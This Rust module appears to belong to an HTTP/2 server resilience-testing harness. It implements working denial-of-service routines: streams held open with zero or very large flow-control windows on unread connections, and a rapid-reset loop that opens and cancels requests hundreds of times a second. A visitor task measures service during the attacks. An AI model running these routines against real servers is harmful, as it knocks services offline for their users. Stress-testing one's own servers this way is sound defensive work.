//! HTTP/2 connections that take nothing, or take their requests back.

use std::time::Duration;

use bytes::Bytes;
use http::Request;
use tokio::time::sleep;

use super::{
    aim::{Aim, Attacker, Tally},
    room::say_all_that_it_may,
};
use crate::{Result, stalled::Stalled};

/// More than a server waits for a peer that takes nothing.
const HELD: Duration = Duration::from_secs(35);

/// How many sockets a connection has: as many as its client may have.
const SOCKETS: usize = 20;

/// Sockets whose streams give no window, in a room where something is said.
pub(super) async fn no_window(aim: Aim) -> Tally {
    let idle = aim.pace(8, 30, |attacker| stall(attacker, 0, false));
    let visitor = aim.pace(1, 1, say_all_that_it_may);
    let (mut tally, visitor) = tokio::join!(idle, visitor);
    tally.add(visitor);
    tally
}

/// Sockets with large windows on connections that are not read.
pub(super) async fn no_reads(aim: Aim) -> Tally {
    let idle = aim.pace(8, 30, |attacker| stall(attacker, 16 * 1_024 * 1_024, true));
    let visitor = aim.pace(1, 1, say_all_that_it_may);
    let (mut tally, visitor) = tokio::join!(idle, visitor);
    tally.add(visitor);
    tally
}

async fn stall(attacker: Attacker, window: u32, is_frozen: bool) -> Result<()> {
    let stream = attacker.connect().await?;
    let mut peer = Stalled::over(stream, window).await;
    let mut sockets = Vec::new();
    for _ in 0..SOCKETS {
        let (status, socket) = peer.ask().await;
        if status == 200 {
            sockets.push(socket);
        }
    }
    if is_frozen {
        peer.freeze();
    }
    attacker.aim.hold(HELD).await;
    if sockets.is_empty() {
        return Err("refused".into());
    }
    Ok(())
}

/// Asks for the page and takes it back, hundreds of times a second.
pub(super) async fn rapid_reset(aim: Aim) -> Tally {
    aim.pace(10, 20, |attacker| async move {
        let stream = attacker.connect().await?;
        let (sender, connection) = h2::client::handshake(stream).await?;
        let resets = async {
            let mut sender = sender;
            let page = format!("http://{}/", attacker.aim.address);
            for number in 0..1_000 {
                if attacker.aim.is_over() {
                    break;
                }
                sender = sender.ready().await?;
                let request = Request::get(&page).body(())?;
                let (_answer, mut body) = sender.send_request(request, number % 2 == 0)?;
                body.send_reset(h2::Reason::CANCEL);
                let _: h2::SendStream<Bytes> = body;
                sleep(Duration::from_millis(1)).await;
            }
            Ok::<_, tower::BoxError>(())
        };
        tokio::select! {
            ended = connection => Ok(ended?),
            done = resets => done,
        }
    })
    .await
}
